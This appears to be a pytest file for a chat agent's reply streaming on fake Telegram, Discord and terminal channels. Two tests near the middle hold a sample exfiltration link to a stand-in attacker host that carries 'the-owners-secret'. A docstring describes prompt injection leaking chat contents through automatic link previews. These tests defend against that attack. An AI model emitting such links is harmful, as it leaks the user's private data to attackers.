"""Replies shown as they are written: the real openai SDK streaming from the scripted server;
on the stand-in Telegram a draft in a private chat, else one message per reply (Telegram's
groups, Discord) edited as it grows and then replaced by the final text; programs never
streamed; tool calls assembled from deltas."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

import pytest

from nanobot.config import Config
from tests.fakes.discord_api import FakeDiscord
from tests.fakes.openai_server import FakeOpenAI, reply, tool_calls
from tests.fakes.telegram_api import FakeTelegram
from nanobot.agent.streaming import TAKEN_BACK
from tests.helpers import fast_pace, keep_discord_urls, recorded_intake, running_gateway, telegram_gateway_config

EDITS_FAST = fast_pace(edit_s=0.05)  # a streamed message edited every 50 ms, not every second

ALICE, FRIEND, DM = 42, 4242, 5
LONG = ("Here is a longer answer that arrives in many small pieces, so the chat can show it "
        "growing. **It ends in bold.**")


@pytest.fixture(autouse=True)
def fast(monkeypatch: pytest.MonkeyPatch, llm: FakeOpenAI) -> None:
    keep_discord_urls(monkeypatch)
    llm.stream_interval = 0.01  # one 4-character piece every 10 ms


@pytest.fixture
def config(llm: FakeOpenAI, tg: FakeTelegram, workspace: Path) -> Config:
    return telegram_gateway_config(llm.base_url, workspace, tg, ALICE)


async def test_telegram_shows_the_reply_growing_as_a_draft_then_sends_it_whole(config: Config, tg: FakeTelegram,
                                                                               llm: FakeOpenAI) -> None:
    """In a private chat a streamed reply is a draft Telegram shows growing (sendMessageDraft):
    no message is sent half-written (and notified with its first words), none is edited."""
    llm.script(reply(LONG), reply(LONG))
    async with running_gateway(config, pace=EDITS_FAST):
        tg.push_text(ALICE, ALICE, "tell me")
        [final] = await tg.wait_sent(1, timeout=10)
        drafts = len(tg.drafts)
        tg.push_text(-100777, ALICE, "@nanobot_test_bot tell me", chat_type="group")  # drafts are for private chats
        await tg.wait_until(lambda: any(e.get("parse_mode") == "HTML" for e in tg.edits), timeout=10)
    assert len(tg.drafts) == drafts and all(d["chat_id"] == ALICE for d in tg.drafts)
    tg.edits.clear()
    growing = [d["text"] for d in tg.drafts]
    assert len(growing) >= 2 and all(len(a) < len(b) for a, b in zip(growing, growing[1:]))
    assert LONG.startswith(growing[0]) and len({d["draft_id"] for d in tg.drafts}) == 1 and not tg.edits
    assert final["parse_mode"] == "HTML" and final["text"].endswith("<b>It ends in bold.</b>")
    assert final["link_preview_options"] == {"is_disabled": True}
    assert llm.chat_requests[0]["stream"] is True and llm.chat_requests[0]["stream_options"] == {"include_usage": True}


async def test_without_drafts_the_reply_grows_in_one_message(config: Config, tg: FakeTelegram,
                                                             llm: FakeOpenAI) -> None:
    """A Bot API server from before drafts (404), or a group (drafts are for private chats):
    one message, sent with the first piece of text, edited as it grows, finished formatted."""
    tg.drafts_served = False
    llm.script(reply(LONG), reply(LONG))
    async with running_gateway(config, pace=EDITS_FAST):
        tg.push_text(ALICE, ALICE, "tell me")
        await tg.wait_until(lambda: any(e.get("parse_mode") == "HTML" for e in tg.edits), timeout=10)
        tg.drafts_served = True  # not asked again
        tg.push_text(-100777, ALICE, "@nanobot_test_bot tell me", chat_type="group")
        await tg.wait_until(lambda: len([e for e in tg.edits if e.get("parse_mode") == "HTML"]) == 2, timeout=10)
    assert len(tg.sent) == 2 and LONG.startswith(tg.sent[0]["text"])  # one message each: the first piece of text
    growing = [e["text"] for e in tg.edits if e.get("parse_mode") != "HTML" and e["message_id"] == tg.sent[0]["message_id"]]
    assert len(growing) >= 2 and all(len(a) < len(b) for a, b in zip(growing, growing[1:]))
    final = [e for e in tg.edits if e.get("parse_mode") == "HTML"][0]
    assert final["message_id"] == tg.sent[0]["message_id"] and final["text"].endswith("<b>It ends in bold.</b>")
    assert tg.calls.count("sendMessageDraft") == 1 and not tg.drafts


async def test_code_mode_shows_no_program_and_takes_a_working_note_back(config: Config, tg: FakeTelegram,
                                                                        llm: FakeOpenAI) -> None:
    """Only <say> notes and the answer stay in code mode: never the program, and the text
    written next to it is taken back from the preview once the program shows."""
    config.agents.defaults.execution_mode = "code"
    llm.script(reply("Let me count them for you, one by one, carefully and slowly.\n"
                     "```python\nfinal_answer(str(6 * 7))\n```"))
    async with running_gateway(config, pace=EDITS_FAST):
        tg.push_text(ALICE, ALICE, "count")
        await tg.wait_sent(1, timeout=10)
    shown = [d["text"] for d in tg.drafts] + [m["text"] for m in tg.sent]
    assert shown[-1] == "42" and not any("final_answer" in text for text in shown)
    note = [i for i, text in enumerate(shown) if text.startswith("Let me count")]
    assert note and shown[note[-1] + 1] == TAKEN_BACK  # shown as it came, then taken back


async def test_code_mode_streams_a_plain_answer(config: Config, tg: FakeTelegram, llm: FakeOpenAI) -> None:
    config.agents.defaults.execution_mode = "code"
    llm.script(reply(LONG))
    async with running_gateway(config, pace=EDITS_FAST):
        tg.push_text(ALICE, ALICE, "tell me")
        await tg.wait_sent(1, timeout=10)
    growing = [d["text"] for d in tg.drafts]
    assert len(tg.sent) == 1 and len(growing) >= 2 and all(len(a) < len(b) for a, b in zip(growing, growing[1:]))


async def test_streaming_off_sends_one_message(config: Config, tg: FakeTelegram, llm: FakeOpenAI) -> None:
    config.channels.telegram.streaming = False
    llm.script(reply(LONG))
    async with running_gateway(config, pace=EDITS_FAST):
        tg.push_text(ALICE, ALICE, "tell me")
        await tg.wait_sent(1)
        await asyncio.sleep(0.2)
    assert len(tg.sent) == 1 and tg.edits == [] and "stream" not in llm.chat_requests[0]


async def test_discord_edits_the_same_way(config: Config, dc: FakeDiscord, llm: FakeOpenAI) -> None:
    dc.connect(config, FRIEND)
    config.channels.telegram.enabled = False
    llm.script(reply(LONG))
    async with running_gateway(config, pace=EDITS_FAST):
        await dc.push_message(DM, FRIEND, "tell me", username="friend")
        async with asyncio.timeout(10):
            while not dc.edits or dc.edits[-1]["content"] != LONG:
                await asyncio.sleep(0.02)
    assert len(dc.sent) == 1 and all(e["message_id"] == dc.sent[0]["id"] for e in dc.edits)


LINKED = "Here is what you asked for: https://attacker.example/?q=the-owners-secret, streamed in small pieces."


async def test_telegram_never_previews_a_replys_link(config: Config, tg: FakeTelegram, llm: FakeOpenAI) -> None:
    """Telegram's servers fetch a link to preview it, at once: a reply a web page steered could
    hand what the chat knows to an address in a link, with nobody clicking it."""
    tg.drafts_served = False  # the message streamed into (a draft sends no link to preview until the answer)
    llm.script(reply(LINKED))
    async with running_gateway(config, pace=EDITS_FAST):
        tg.push_text(ALICE, ALICE, "tell me")
        await tg.wait_until(lambda: any(e.get("parse_mode") == "HTML" for e in tg.edits), timeout=10)
    assert tg.sent and tg.edits
    assert all(m.get("link_preview_options") == {"is_disabled": True} for m in tg.sent + tg.edits)


async def test_discord_never_embeds_a_replys_link(config: Config, dc: FakeDiscord, llm: FakeOpenAI) -> None:
    dc.connect(config, FRIEND)
    config.channels.telegram.enabled = False
    llm.stream_piece_chars = 400
    llm.script(reply(LINKED * 30))  # over 2,000 characters: the streamed message, then one sent after it
    async with running_gateway(config, pace=EDITS_FAST):
        await dc.push_message(DM, FRIEND, "tell me", username="friend")
        await dc.wait_sent(2, timeout=10)
    assert all(m["flags"] & 4 for m in dc.sent)  # SUPPRESS_EMBEDS


async def test_stop_during_streaming_stops_cleanly(config: Config, tg: FakeTelegram, llm: FakeOpenAI) -> None:
    llm.stream_interval = 0.05
    llm.script(reply(LONG * 5), reply("next answer"))
    async with running_gateway(config, pace=EDITS_FAST):
        tg.push_text(ALICE, ALICE, "tell me a lot")
        await tg.wait_until(lambda: len(tg.drafts) >= 1, timeout=10)
        tg.push_text(ALICE, ALICE, "/stop")
        await tg.wait_until(lambda: any(m["text"] == "Stopped." for m in tg.sent), timeout=10)
        drafts = len(tg.drafts)
        await asyncio.sleep(0.3)
        assert len(tg.drafts) == drafts  # the stream ended with the turn
        tg.push_text(ALICE, ALICE, "again")
        await tg.wait_until(lambda: any(m.get("text") == "next answer" for m in tg.sent), timeout=10)


async def test_streamed_tool_calls_assemble_exactly(config: Config, tg: FakeTelegram, llm: FakeOpenAI,
                                                    workspace: Path) -> None:
    body = "line " * 40
    llm.script(tool_calls(("write_file", {"path": "a/one.txt", "content": body}),
                          ("write_file", {"path": "b/two.txt", "content": body.upper()}), content="Writing both."),
               reply("Both written."))
    async with running_gateway(config, pace=EDITS_FAST):
        tg.push_text(ALICE, ALICE, "write two files")
        await tg.wait_until(lambda: any("Both written." in m["text"] for m in tg.sent), timeout=10)
    assert (workspace / "a/one.txt").read_text() == body and (workspace / "b/two.txt").read_text() == body.upper()
    calls = llm.chat_requests[1]["messages"][-3]["tool_calls"]
    assert [c["function"]["name"] for c in calls] == ["write_file", "write_file"]
    assert json.loads(calls[1]["function"]["arguments"]) == {"path": "b/two.txt", "content": body.upper()}


async def test_hybrid_exec_python_streamed(config: Config, tg: FakeTelegram, llm: FakeOpenAI) -> None:
    config.agents.defaults.execution_mode = "hybrid"
    llm.script(tool_calls(("exec_python", {"code": "final_answer(str(sum(range(10))))"})))
    async with running_gateway(config, pace=EDITS_FAST):
        tg.push_text(ALICE, ALICE, "sum")
        await tg.wait_sent(1, timeout=10)
    assert tg.sent[0]["text"] == "45"


async def test_the_terminal_prints_words_as_they_come_and_nothing_twice(capsys) -> None:
    from nanobot.cli.terminal_channel import CliChannel
    from nanobot.bus import OutboundMessage

    def out(text: str, kind: str = "stream") -> OutboundMessage:
        return OutboundMessage("cli", "s", text, kind=kind, stream_id=7)

    async with recorded_intake() as intake:  # nothing is typed here: only what is printed is tested
        channel = CliChannel(intake, "cli:s")
        await channel.send_stream(out("First"))
        assert capsys.readouterr().out == "First"  # a one-line reply shows before it is done
        for partial in ("First li", "First line\nSecond", "First line\nSecond line\nThi"):
            await channel.send_stream(out(partial))
        assert capsys.readouterr().out == " line\nSecond line\nThi"
        await channel.send(out("First line\nSecond line\nThird line.", kind="text"))
        assert capsys.readouterr().out == "rd line.\n"


def test_under_a_prompt_whole_blocks_go_above_rendered_and_the_block_being_written_stays_in_the_prompt() -> None:
    from nanobot.cli.terminal_channel import TerminalStream

    written: list[str] = []
    stream = TerminalStream(written.append, render=lambda block: f"<{block.strip()}>\n")
    stream.feed("Hello")
    assert written == [] and stream.partial == "Hello"
    stream.feed("Hello there\nstill the same paragraph")
    assert written == [] and stream.partial == "Hello there\nstill the same paragraph"
    stream.feed("Hello there\nstill the same paragraph\n\n```\ncode\n\nmore code")
    assert written == ["<Hello there\nstill the same paragraph>\n"]  # a blank line inside a fence ends nothing
    assert stream.partial == "```\ncode\n\nmore code"
    stream.finish("Hello there\nstill the same paragraph\n\n```\ncode\n\nmore code\n```")
    assert written[1:] == ["\n<```\ncode\n\nmore code\n```>\n"] and stream.partial == ""


def test_the_terminal_renders_markdown() -> None:
    from nanobot.cli.terminal_channel import render_markdown

    shown = render_markdown("# Plan\n\nSome **bold** words.\n\n- one\n- two")
    assert "**" not in shown and "\x1b[1mbold" in shown and " • \x1b[0mone" in shown
    assert not any(line.endswith(" ") for line in shown.splitlines())  # rich pads lines to the width
    lines = render_markdown("Commands:\n/new — start afresh\n/stop — cancel").splitlines()
    assert lines == ["Commands:", "/new — start afresh", "/stop — cancel"]  # as the page shows it (/help was one line)


async def test_a_megabyte_reply_in_small_pieces_streams_in_linear_time() -> None:
    """A model that streams a 1 MB program four characters at a time must not wedge the turn
    (joining and re-scanning the whole text on every piece took minutes)."""
    from nanobot.agent.streaming import ReplyStream

    shown: list[str] = []

    async def publish(text: str) -> None:
        shown.append(text)

    stream = ReplyStream(publish, interval=0.0)
    text = "Sure, running it.\n```python\n" + "x = x + 1\n" * 100_000 + "```"

    async def feed_all() -> None:
        stream.begin()
        for i in range(0, len(text), 4):
            await stream.feed(text[i:i + 4])

    await asyncio.wait_for(feed_all(), timeout=20)  # about 0.3 s here; minutes when quadratic
    assert shown[-1] == "Sure, running it." and not any("x = x" in s for s in shown)
